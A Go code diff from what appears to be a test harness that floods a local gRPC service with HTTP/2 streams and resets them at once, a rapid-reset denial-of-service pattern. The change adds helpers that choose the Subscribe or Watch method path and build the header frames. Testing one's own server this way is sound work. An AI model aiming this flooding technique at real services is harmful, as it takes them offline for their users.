@@ -66,7 +66,7 @@ func (a *attack) block() []byte {
 	fields := []hpack.HeaderField{
 		{Name: ":method", Value: "POST"},
 		{Name: ":scheme", Value: "http"},
-		{Name: ":path", Value: fanoutv1.FanoutService_Watch_FullMethodName},
+		{Name: ":path", Value: a.method()},
 		{Name: ":authority", Value: "localhost"},
 		{Name: "content-type", Value: "application/grpc"},
 		{Name: "te", Value: "trailers"},
@@ -80,6 +80,19 @@ func (a *attack) block() []byte {
 		}
 	}
 	return resetstorm.Block(fields)
+}
+
+// method returns the path of the method of a request.
+func (a *attack) method() string {
+	if a.Kind == subscribeInSilence {
+		return fanoutv1.FanoutService_Subscribe_FullMethodName
+	}
+	return fanoutv1.FanoutService_Watch_FullMethodName
+}
+
+// headers returns a frame that begins a request.
+func headers(stream uint32, block []byte) http2.HeadersFrameParam {
+	return http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true}
 }
 
 // reset opens streams and resets each at once. It connects again when the server closes the
@@ -159,7 +172,7 @@ func (a *attack) openAtOnce(ctx context.Context, i int) {
 		var err error
 		for n := uint32(0); n < streamsAtOnce && err == nil; n++ {
 			c.write.Lock()
-			err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*n + 1, BlockFragment: block, EndHeaders: true})
+			err = c.framer.WriteHeaders(headers(2*n+1, block))
 			if err == nil {
 				err = c.framer.WriteData(2*n+1, true, body)
 			}
